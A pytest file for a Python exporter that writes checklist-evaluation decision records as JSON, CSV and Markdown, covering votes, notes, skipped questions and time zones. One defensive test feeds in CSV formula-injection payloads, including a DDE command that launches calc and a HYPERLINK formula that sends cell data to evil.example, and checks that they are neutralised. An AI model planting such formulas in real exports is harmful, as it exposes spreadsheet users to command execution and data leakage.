"""The decision record is built from the evaluation alone: no Slack, no Redis."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from conversations import flow
from conversations.export import decision_record
from conversations.models import AnswerEntry, Ballot, Card, Evaluation, SuggestionRef, Vote
from scoring.checklist import Registry

FT = Registry().get()


def evaluation() -> Evaluation:  # q1 answered Yes on a confirmed suggestion, q2 Partly with a note, the rest open
    ev = flow.start(team="T1", channel="C1", project="Router", checklist=FT, user="U1",
                    now=datetime(2026, 11, 2, tzinfo=UTC))
    ev.suggestions["labeled_examples"] = SuggestionRef(value=1, reason="2,000 ≥ 500", evidence="2,000 labeled tickets")
    for ts, (qid, value) in enumerate([("labeled_examples", 1.0), ("diverse_examples", 0.5)], start=1):
        ev.cards[str(ts)] = Card(question=qid)
        flow.answer(ev, FT, card_ts=str(ts), user=f"U{ts}", value=value)
    flow.add_note(ev, FT, question="q2", user="U3", note="Mostly one region")
    return ev


def test_json_and_csv_carry_answers_suggestions_and_scorecard() -> None:
    data = json.loads(decision_record(evaluation(), FT, "json", {"U1": "ana"}, "https://x/thread"))
    assert data["project"] == "Router" and data["thread"] == "https://x/thread"
    q1, q2 = data["answers"][0], data["answers"][1]
    assert (q1["answer"], q1["by"], q1["suggestion_quote"]) == (1.0, "ana", "2,000 labeled tickets")
    assert (q2["answer_label"], q2["note"]) == ("Partly", "Mostly one region")
    assert data["scorecard"]["total"] == 1.5 and data["scorecard"]["provisional"] is True
    rows = list(csv.DictReader(io.StringIO(decision_record(evaluation(), FT, "csv").removeprefix("\ufeff"))))
    assert rows[0]["question"] == "q1" and {"question": "total", "text": "1.5 of 20"}.items() <= next(
        r for r in rows if r["question"] == "total").items()


def test_markdown_is_a_decision_log_and_bad_formats_are_named() -> None:
    md = decision_record(evaluation(), FT, "md")
    assert md.startswith("# Decision log: Router") and "| q1 |" in md and "2,000 labeled tickets" in md
    with pytest.raises(ValueError, match="`pdf` is not an export format"):
        decision_record(evaluation(), FT, "pdf")


AT = datetime(2030, 1, 7, 9, tzinfo=UTC)


def completed(**fields: object) -> Evaluation:
    """Every question answered Yes by U1; ``fields`` override the evaluation's (status, mode, …)."""
    ev = Evaluation(team="T1", channel="C1", project="Router", project_key="router", checklist=FT.id,
                    started_by="U1", started_at=AT, status="completed", completed_at=AT + timedelta(hours=1))
    ev.answers = {q.id: AnswerEntry(question=q.id, value=1.0, by="U1", at=AT + timedelta(minutes=i))
                  for i, q in enumerate(FT.questions)}
    return ev.model_copy(update=fields)


def csv_rows(text: str) -> dict[str, dict[str, str]]:
    return {row["question"]: row for row in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))}  # Excel's mark


def md_row(md: str, key: str) -> str:
    return next(line for line in md.splitlines() if line.startswith(f"| {key} |"))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    ev = completed(project="=cmd|' /C calc'!A0")
    q1, q2 = ev.answers[FT.question("q1").id], ev.answers[FT.question("q2").id]
    q1.note, q1.note_by = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "U7"
    q2.suggestion = SuggestionRef(value=1, reason="-2+3", evidence="@SUM(1+1)*cmd")
    names = {"U1": "+Ana (U1)", "U7": "\tTab (U7)"}
    rows = csv_rows(decision_record(ev, FT, "csv", names))
    assert rows["q1"]["note"] == "'" + q1.note and rows["q1"]["by"] == "'+Ana (U1)"
    assert (rows["q1"]["note_by"], rows["q2"]["suggestion_quote"], rows["q2"]["suggestion_reason"]) == (
        "'\tTab (U7)", "'@SUM(1+1)*cmd", "'-2+3")
    assert rows["project"]["text"] == "'=cmd|' /C calc'!A0" and rows["started_by"]["text"] == "'+Ana (U1)"
    assert (rows["q1"]["answer"], rows["total"]["text"], rows["q1"]["skips"]) == ("1.0", "20 of 20", "0")  # ours as is
    data = json.loads(decision_record(ev, FT, "json", names))  # only the CSV is read by spreadsheets
    assert data["answers"][0]["note"] == q1.note and data["project"] == ev.project


def test_csv_names_the_project_and_the_evaluation() -> None:
    ev = completed(started_by="U2", previous_id="abc123")
    rows = csv_rows(decision_record(ev, FT, "csv", {"U2": "Bo (U2)"}, "https://x/thread"))
    facts = {key: rows[key]["text"] for key in ("project", "evaluation", "checklist", "channel", "channel_name",
                                                "thread", "status", "started_by", "started_at", "completed_at",
                                                "previous_evaluation")}
    assert facts == {"project": "Router", "evaluation": ev.id, "checklist": FT.id, "channel": "C1",
                     "channel_name": "", "thread": "https://x/thread", "status": "completed", "started_by": "Bo (U2)",
                     "started_at": "2030-01-07T09:00:00+00:00", "completed_at": "2030-01-07T10:00:00+00:00",
                     "previous_evaluation": "abc123"}
    assert list(rows)[:20] == [q.key for q in FT.questions]  # the questions still come first


def test_markdown_says_an_abandoned_evaluation_was_closed_for_inactivity() -> None:
    ev = completed(status="abandoned", completed_at=AT + timedelta(days=3))
    md = decision_record(ev, FT, "md")
    assert f"- **Evaluation:** `{ev.id}` (closed for inactivity) in channel C1" in md
    assert "- **Closed for inactivity:** 2030-01-10 09:00 UTC" in md
    assert "in progress" not in md and "**Completed:**" not in md


def test_the_record_names_the_channel_as_people_know_it() -> None:
    """Review finding: the record said "in channel C1"; the bot passes the name Slack gave it (#ml-team)."""
    ev = completed()
    md = decision_record(ev, FT, "md", channel_name="#ml-team")
    assert f"- **Evaluation:** `{ev.id}` (completed) in #ml-team" in md and "C1" not in md
    data = json.loads(decision_record(ev, FT, "json", channel_name="#ml-team"))
    assert (data["channel"], data["channel_name"]) == ("C1", "#ml-team")  # the id stays, for programs
    rows = csv_rows(decision_record(ev, FT, "csv", channel_name="#ml-team"))
    assert (rows["channel"]["text"], rows["channel_name"]["text"]) == ("C1", "#ml-team")
    assert json.loads(decision_record(ev, FT, "json"))["channel_name"] is None  # Slack did not say: no name
    running = decision_record(completed(status="in_progress", completed_at=None), FT, "md")
    assert "(in progress)" in running and "- **Completed:** not yet" in running


def voted() -> Evaluation:
    """A team vote: q1 unanimous (revealed at quorum), q2 split and settled by U1, q3's votes still hidden."""
    ev = completed(mode="vote", quorum=3)
    q1, q2, q3 = (FT.question(k).id for k in ("q1", "q2", "q3"))
    ballots: dict[str, dict[str, float | None]] = {
        q1: {"U2": 1.0, "U3": 1.0, "U4": 1.0}, q2: {"U2": 1.0, "U3": 0.0, "U4": None}, q3: {"U8": 0.0}}
    ev.ballots = {qid: Ballot(revealed=qid != q3, votes={u: Vote(value=v, at=AT + timedelta(seconds=i))
                                                          for i, (u, v) in enumerate(votes.items())})
                  for qid, votes in ballots.items()}
    ev.answers[q1].by = "U4"  # what a quorum reveal records: the last voter
    ev.answers[q2] = ev.answers[q2].model_copy(update={"value": 0.5, "by": "U1", "settled_by": "U1"})
    del ev.answers[q3]  # still being voted on
    return ev


NAMES = {"U1": "Ana (U1)", "U2": "Bo (U2)", "U3": "Cy (U3)", "U4": "Di (U4)", "U7": "Nora (U7)", "U8": "Hal (U8)"}


def test_a_team_vote_keeps_who_voted_what_and_never_the_hidden_votes() -> None:
    ev = voted()
    data = json.loads(decision_record(ev, FT, "json", NAMES))
    q1, q2, q3 = data["answers"][:3]
    assert (q1["votes"], q1["revealed_by"], q1["settled_by"]) == (
        {"Bo (U2)": "Yes", "Cy (U3)": "Yes", "Di (U4)": "Yes"}, "quorum", None)
    assert (q2["votes"], q2["settled_by"]) == ({"Bo (U2)": "Yes", "Cy (U3)": "No", "Di (U4)": "Not sure"}, "Ana (U1)")
    assert q3["votes"] is None and q3["revealed_by"] is None
    assert data["scorecard"]["agreement"]["voters"] == ["Bo (U2)", "Cy (U3)", "Di (U4)"]
    md = decision_record(ev, FT, "md", NAMES)
    assert "| team vote: Bo (U2) Yes, Cy (U3) Yes, Di (U4) Yes; revealed at quorum |" in md_row(md, "q1")
    assert "team vote: Bo (U2) Yes, Cy (U3) No, Di (U4) Not sure; revealed at quorum; settled by Ana (U1)" \
        in md_row(md, "q2")
    rows = csv_rows(decision_record(ev, FT, "csv", NAMES))
    assert rows["q1"]["votes"] == "Bo (U2): Yes; Cy (U3): Yes; Di (U4): Yes" and rows["q3"]["votes"] == ""
    for fmt in ("md", "csv", "json"):
        assert "U8" not in decision_record(ev, FT, fmt, NAMES), fmt  # the hidden vote's voter


def test_a_vote_revealed_by_hand_and_an_answer_changed_after_it_say_so() -> None:
    ev = voted()
    q1 = FT.question("q1").id
    ev.ballots[q1].revealed_by = "U2"
    ev.answers[q1] = ev.answers[q1].model_copy(update={"by": "U3", "value": 0.0, "previous": 1.0})
    row = md_row(decision_record(ev, FT, "md", NAMES), "q1")
    assert "Di (U4) Yes; revealed by Bo (U2); changed by Cy (U3) |" in row
    assert json.loads(decision_record(ev, FT, "json", NAMES))["answers"][0]["revealed_by"] == "Bo (U2)"


def test_every_format_keeps_who_wrote_the_note() -> None:
    ev = completed()
    entry = ev.answers[FT.question("q1").id]
    entry.note, entry.note_by = "Only 300 are labeled so far", "U7"
    assert json.loads(decision_record(ev, FT, "json", NAMES))["answers"][0]["note_by"] == "Nora (U7)"
    assert csv_rows(decision_record(ev, FT, "csv", NAMES))["q1"]["note_by"] == "Nora (U7)"
    row = md_row(decision_record(ev, FT, "md", NAMES), "q1")
    assert "| Ana (U1) |" in row and "| Only 300 are labeled so far — Nora (U7) |" in row


def test_a_skipped_question_reads_not_sure_and_a_question_never_asked_stays_blank() -> None:
    ev = completed(status="in_progress", completed_at=None)
    q5, q6 = FT.question("q5").id, FT.question("q6").id
    ev.answers[q5] = ev.answers[q5].model_copy(update={"value": None, "by": "U3", "skips": 2})
    del ev.answers[q6]
    md = decision_record(ev, FT, "md", NAMES)
    assert "| Not sure (skipped twice) | Cy (U3) |" in md_row(md, "q5") and "| — |  |" in md_row(md, "q6")
    answers = json.loads(decision_record(ev, FT, "json", NAMES))["answers"]
    assert [(a["answer"], a["answer_label"], a["skips"], a["by"]) for a in answers[4:6]] == [
        (None, "Not sure", 2, "Cy (U3)"), (None, None, 0, None)]
    rows = csv_rows(decision_record(ev, FT, "csv", NAMES))
    assert (rows["q5"]["answer_label"], rows["q5"]["skips"], rows["q6"]["answer_label"]) == ("Not sure", "2", "")


def test_markdown_times_are_in_the_teams_zone_and_json_csv_keep_utc() -> None:
    ev = completed()
    berlin = ZoneInfo("Europe/Berlin")
    md = decision_record(ev, FT, "md", NAMES, tz=berlin)
    assert "- **Started:** 2030-01-07 10:00 CET (2030-01-07T10:00:00+01:00) by Ana (U1)" in md
    assert "- **Completed:** 2030-01-07 11:00 CET (2030-01-07T11:00:00+01:00)" in md
    assert "| Ana (U1) | 2030-01-07 10:00 CET |" in md_row(md, "q1") and "+00:00" not in md
    assert "| 2030-01-07 09:00 UTC |" in md_row(decision_record(ev, FT, "md", NAMES), "q1")  # the default
    assert json.loads(decision_record(ev, FT, "json", tz=berlin))["started_at"] == "2030-01-07T09:00:00+00:00"
    assert csv_rows(decision_record(ev, FT, "csv", tz=berlin))["q1"]["at"] == "2030-01-07T09:00:00+00:00"


def test_markdown_of_an_evaluation_closed_for_inactivity_opens_with_the_closure_not_a_pending_decision() -> None:
    """Review finding: the log of a closed evaluation opened with "Not decided yet … it can end at 8–20", as if
    someone could still answer; nobody can."""
    ev = completed(status="abandoned", completed_at=AT + timedelta(days=3))
    ev.answers = {q.id: a for q, a in zip(FT.questions, ev.answers.values(), strict=True) if q.number <= 8}
    md = decision_record(ev, FT, "md")
    decision = md.splitlines()[2]
    assert decision == "**Closed for inactivity** at 8 of 20 answered; not decided. The answers given so far are below."
    assert "Not decided yet" not in md and "it can end at" not in md


def test_markdown_of_a_closed_evaluation_keeps_a_decision_its_answers_already_make() -> None:
    ev = completed(status="abandoned", completed_at=AT + timedelta(days=3))
    ev.answers = {q.id: a for q, a in zip(FT.questions, ev.answers.values(), strict=True) if q.number <= 19}
    decision = decision_record(ev, FT, "md").splitlines()[2]
    assert decision.startswith("**Closed for inactivity** at 19 of 20 answered; its answers already decide: **")
    assert "Strong go" in decision
